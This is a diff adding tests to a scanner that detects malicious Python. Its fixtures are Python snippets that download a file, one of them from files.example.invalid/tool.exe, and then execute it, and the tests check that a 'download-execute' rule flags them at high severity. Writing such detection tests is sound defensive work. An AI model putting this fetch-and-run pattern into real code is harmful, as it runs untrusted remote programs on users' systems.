@@ -369,3 +369,36 @@ test('attrib +h +s hides a dropped file from the user: high even when called; at
   const readOnly = findings('import subprocess\ndef unlock(path):\n    subprocess.run(["attrib", "-r", path])\n');
   assert.equal(ruleOf(readOnly, 'process-launch-payload'), undefined);
 });
+
+test('a function that downloads to a path in a variable and starts that path runs what it downloaded', () => {
+  const source = [
+    'import os, tempfile, requests, subprocess',
+    'def init(url):',
+    '    response = requests.get(url)',
+    '    file_path = os.path.join(tempfile.gettempdir(), os.path.basename(url))',
+    "    with open(file_path, 'wb') as f:",
+    '        f.write(response.content)',
+    '    subprocess.run([file_path])',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high');
+  assert.equal(run?.line, 7);
+  const viewer = source.replace('subprocess.run([file_path])', 'subprocess.run(["less", file_path])');
+  assert.equal(
+    findings(viewer).find((f) => f.rule === 'download-execute'),
+    undefined,
+    'the file is handed to a program, not run',
+  );
+});
+
+test('a downloaded executable started through os.path.abspath is still the file written', () => {
+  const source = [
+    'import os, requests, subprocess',
+    'def fetch():',
+    '    data = requests.get("https://files.example.invalid/tool.exe").content',
+    '    with open("tool.exe", "wb") as f:',
+    '        f.write(data)',
+    '    subprocess.Popen([os.path.abspath("tool.exe")])',
+  ].join('\n');
+  assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
+});
